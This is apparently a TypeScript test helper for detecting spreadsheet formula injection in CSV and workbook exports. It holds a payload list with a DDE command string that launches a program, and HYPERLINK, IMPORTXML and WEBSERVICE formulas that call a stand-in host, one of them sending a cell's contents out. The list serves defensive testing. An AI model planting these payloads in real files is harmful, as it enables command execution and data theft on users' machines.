import { CsvError, parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";

const COMMAND = "cmd|' /C calc'!A0";

/** Texts that some spreadsheet would run, or write elsewhere, if an export let them. */
export const PAYLOADS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=SUM(1;2)",
  '=HYPERLINK("http://mail.test?"&A1,"open")',
  '=IMPORTXML("http://mail.test","//a")',
  '=WEBSERVICE("http://mail.test")',
  `=${COMMAND}`,
  `+${COMMAND}`,
  `-${COMMAND}`,
  `@${COMMAND}`,
  `-2+3+${COMMAND}`,
  "=DDE(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+x",
  "\uff20SUM(1)",
  "Ana\n=1+1",
  "Ana\r\n@SUM(1)",
  "Ana\r+1+1",
  "a;=3+3",
  "a,=3+3",
  "a\t=3+3",
  "a|=3+3",
  "a; -3+x",
  'a",=3+3',
  '";=3+3;"',
  '"=1+1"',
  'a\n"=1+1',
  "'=1+1",
  "''=1+1",
  "a;;\uff1d3+3",
  "-99\n=1+1",
  "=1+1;-99",
];

const NUMBERS = /^\s*-?\d+(\.\d+)?([,;|\t\r\n]\s*-?\d+(\.\d+)?)*\s*$/;
const FORMULA = /^[\s"\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
const DELIMITERS = [",", ";", "\t", "|"];

const isFormula = (cell: string) => !NUMBERS.test(cell) && (FORMULA.test(cell) || /^[\t\r]/.test(cell));

/** Cells as they stand between delimiters and quotation marks; none where by this delimiter a quotation mark is never closed. */
function cellsBy(delimiter: string, text: string): readonly string[] {
  try {
    return (parse(text, { delimiter, relaxColumnCount: true, relaxQuotes: true }) as string[][]).flat();
  } catch (error) {
    if (error instanceof CsvError && error.code === "CSV_QUOTE_NOT_CLOSED") return [];
    throw error;
  }
}

/**
 * Cells of a CSV that run as some spreadsheet opens it: with any delimiter, minding quotation marks or not.
 */
export function formulasInCsv(file: string): readonly string[] {
  const text = file.replace(/^\uFEFF/, "");
  const asWritten = DELIMITERS.flatMap((delimiter) => cellsBy(delimiter, text));
  return [...asWritten, ...text.split(/[,;|\t\r\n]/)].filter(isFormula);
}

/** Cells of a workbook that hold a formula, or what one computed. */
export function formulasInWorkbook(file: Uint8Array): readonly string[] {
  const sheets = Object.entries(unzipSync(file)).filter(([path]) => path.startsWith("xl/worksheets/"));
  return sheets.flatMap(([, content]) => strFromU8(content).match(/<f[\s/>]|<c[^>]*\st="str"/g) ?? []);
}
